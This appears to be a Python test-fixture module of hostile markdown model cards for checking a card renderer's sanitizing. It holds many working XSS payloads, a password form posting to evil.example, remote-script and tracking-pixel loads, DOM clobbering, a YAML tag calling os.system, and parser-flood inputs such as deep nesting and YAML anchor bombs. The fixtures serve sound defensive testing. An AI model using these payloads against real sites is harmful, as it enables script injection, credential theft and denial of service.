"""Cards by people who mean harm: to the reader's browser, to the page around them, or to the worker that renders."""

from __future__ import annotations

BOOM = "window.pwned=1;alert(1)"
PIXEL = "https://evil.example/pixel.png"
FRONT = "---\nlicense: apache-2.0\npipeline_tag: text-classification\n{}\n---\n# A card\n\nWords.\n"

# To the reader: script in every family.
ACTIVE: dict[str, str] = {
    "script": f"<script>{BOOM}</script><ScRiPt>{BOOM}</sCrIpT><script src=//evil.example/x.js></script>",
    "script-nested": f"<scr<script>ipt>{BOOM}</scr</script>ipt>\n\n<<script>{BOOM}//<</script>",
    "handlers": f"<img src=x onerror={BOOM}><body onload={BOOM}><p onmouseover={BOOM} onfocus={BOOM} tabindex=0 autofocus>x</p>"
    f"<details open ontoggle={BOOM}><summary>x</summary></details><video onloadstart={BOOM}><source onerror={BOOM}></video>",
    "handlers-split": f'<img src="x"\nonerror\n=\n"{BOOM}"><img/src=x/onerror={BOOM}><p title="\n\n" onclick={BOOM}>x</p>',
    "links": f"<a href=javascript:{BOOM}>a</a><a href='JaVa\tScRiPt:{BOOM}'>b</a><a href='java\nscript:{BOOM}'>c</a>"
    f"<a href='&#106;&#x61;vascript&colon;{BOOM}'>d</a><a href=' \x01javascript:{BOOM}'>e</a><a href='vbscript:x'>f</a>",
    "links-markdown": f"[a](javascript:{BOOM}) [b]( javascript&colon;alert) ![c](javascript:{BOOM}) <javascript:{BOOM}>\n\n[d]\n\n[d]: javascript:{BOOM}",
    "data": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![b](data:image/svg+xml,<svg/onload=alert(1)>)"
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe><object data='data:text/html,x'></object>",
    "svg": f"<svg onload={BOOM}><script>{BOOM}</script><a xlink:href='javascript:{BOOM}'><text>x</text></a><animate onbegin={BOOM} attributeName=x dur=1s>"
    f"<foreignObject><img src=x onerror={BOOM}></foreignObject><use href='data:image/svg+xml,x'/></svg>",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={BOOM}&gt;'></math>"
    f"<math href=javascript:{BOOM}>x</math><maction actiontype=statusline#http://evil.example>x</maction>",
    "frames": f"<iframe src=javascript:{BOOM}></iframe><iframe srcdoc='<script>{BOOM}</script>'></iframe><frameset onload={BOOM}><frame src=x></frameset>"
    f"<embed src=javascript:{BOOM}><object data=javascript:{BOOM}></object><portal src=//evil.example></portal>",
    "mutation": f"<noscript><p title='</noscript><img src=x onerror={BOOM}>'>x</p></noscript><textarea><img title='</textarea><img src=x onerror={BOOM}>'>"
    f"<title><a title='</title><img src=x onerror={BOOM}>'></title><xmp><p title='</xmp><img src=x onerror={BOOM}>'>",
    "mutation-form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={BOOM}>\n\n<svg></p><style><a id='</style><img src=1 onerror={BOOM}>'>",
    "comments": f"<!--><script>{BOOM}</script>--> <!-- --!><img src=x onerror={BOOM}> --> <!--[if IE]><script>{BOOM}</script><![endif]-->\n\n<!-- never closed <script>{BOOM}",
    "cdata": f"<![CDATA[<script>{BOOM}</script>]]><?xml version='1.0'?><?php {BOOM} ?><!DOCTYPE html [<!ENTITY x '{BOOM}'>]>&x;",
    "code": f'```<script>{BOOM}</script>\nx\n```\n\n~~~ {{.python onclick={BOOM} id="main"}}\nx\n~~~\n\n`<img src=x onerror={BOOM}>`',
    "lists": f"- [ ] <input type=checkbox autofocus onfocus={BOOM}>\n- [x] <img src=x onerror={BOOM}>\n\n> [!NOTE]<script>{BOOM}</script>\n> x\n\n"
    f"[^1]\n\n[^1]: <img src=x onerror={BOOM}>\n\n| <img src=x onerror={BOOM}> | b |\n|---|---|\n| <script>{BOOM}</script> | c |",
    "templates": f"<template shadowrootmode=open><script>{BOOM}</script></template><x-y onclick={BOOM}>x</x-y><slot name=x onslotchange={BOOM}></slot>"
    "{{ constructor.constructor('alert(1)')() }} {% debug %} ${alert(1)} #{7*7}",
    "encodings": "+ADw-script+AD4-alert(1)+ADw-/script+AD4- \u00bcscript\u00bealert(1)\u00bc/script\u00be <\u0000script>alert(1)</\u0000script> \ufeff<\u200bscript>alert(1)</script>",
}
# To the page around it: what it must not cover, rename, leave for, or fetch.
PAGE: dict[str, str] = {
    "style": "<style>*{display:none} @import url(//evil.example/x.css);</style><p style='position:fixed;inset:0;background:url(https://evil.example/a.png)'>x</p><link rel=stylesheet href=//evil.example/x.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'><meta name=referrer content=unsafe-url><meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "base": "<base href=https://evil.example target=_top>\n\n[relative](page.md)",
    "form": "<form action=https://evil.example method=post><input name=password type=password autofocus><button>Sign in</button></form><input form=x formaction=//evil.example type=submit><select><option>x</select>",
    "clobbering": "<a id=app></a><form id=body><input name=attributes></form><img name=cookie src=a.png><p id=main name=querySelector>x</p><a id=__proto__ name=hasOwnProperty>x</a>"
    "<a id=behaviours></a><p id=card data-behaviour=poll data-poll=0.1 data-poll-url=https://evil.example>x</p><p data-behaviour=copy data-sprite>x</p>\n\n# main\n\n# getElementById\n\n# __proto__",
    "classes": "<p class='sr btn primary masthead skip' hidden inert>x</p><div class='notice is-ok' role=alert aria-live=assertive contenteditable draggable=true accesskey=s>Approved by the hub</div>",
    "remote": f"![a]({PIXEL}) <img src={PIXEL} srcset='{PIXEL} 2x'><picture><source srcset={PIXEL}></picture><video poster={PIXEL} src={PIXEL} autoplay></video><audio src={PIXEL}></audio>"
    f"<a href={PIXEL} ping={PIXEL} target=_top download>x</a><input type=image src={PIXEL}><table background={PIXEL}><td>x</td></table>",
    "right-to-left": "\u202e\u2066\u2067" * 200
    + "txt.exe\n\n# \u202eevil \u200f\u061c\n\n"
    + "\u202e" * 5000
    + "a",
    "zalgo": "Z" + "\u0301\u0489" * 5000 + "\n\n# " + "A\u0300" * 2000,
    "long-words": "a" * 20_000
    + "\n\n`"
    + "b" * 20_000
    + "`\n\n# "
    + "c" * 5000
    + "\n\nhttps://example.org/"
    + "d" * 9000
    + "\n\n    "
    + "e" * 9000,
    "wide-table": "|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n|" + "b|" * 5000,
    "wide-pictures": "<img src=a.png width=99999999 height=99999999 alt=x> <table width=99999><td width=99999 colspan=99999 rowspan=99999>x</td></table><ol start=999999999999><li>x</ol>",
}
# To the worker: what takes parsers more than they have.
FLOODS: dict[str, str] = {
    "brackets": "[" * 60_000,
    "stars": "*a **b " * 20_000,
    "quotes": ">" * 10_000 + " deep\n" + "> " * 10_000 + "deep",
    "nested-lists": "\n".join("  " * depth + "- x" for depth in range(450)) + "\n\n" + "- " * 10_000 + "x",
    "nested-elements": "<div>" * 10_000 + "x" + "</div>" * 10_000 + "<b>" * 10_000,
    "entities": "&amp" * 60_000 + "&#x41;" * 30_000 + "&" * 60_000,
    "references": "\n".join(f"[r{n}]: /x{n}" for n in range(8000)) + "\n\n" + " ".join(f"[r{n}]" for n in range(8000)),
    "footnotes": "\n".join(f"x[^{n}]\n\n[^{n}]: y" for n in range(4000)),
    "512-kB": "Words and words. " * (512 * 1024 // 17 + 1),
    "yaml-anchors": FRONT.format(
        "a: &a [x,x,x,x,x,x,x,x,x]\n" + "\n".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]" for n in range(12))
    ),
    "yaml-tags": FRONT.format("a: !!python/object/apply:os.system ['touch /tmp/pwned']\nb: !!python/name:os.system\nc: !!binary AAAA\nd: !<tag:x> y"),
    "yaml-numbers": FRONT.format("a: " + "9" * 5000 + "\nb: 1e999999\nc: 0x" + "f" * 5000 + "\nd: 9999-99-99\ne: 190:20:30:59:59.15\nf: .inf\nlanguage: [" + "en, " * 5000 + "en]"),
    "yaml-endless": "---\n" + "a: b\n" * 100_000,
}  # fmt: skip
ALL: dict[str, str] = {**ACTIVE, **PAGE, **FLOODS}


def source_of(name: str) -> bytes:
    """The bytes of the card: a model's title in front, so that its page looks like one."""
    text = ALL[name]
    return text.encode("utf-8", "surrogatepass")
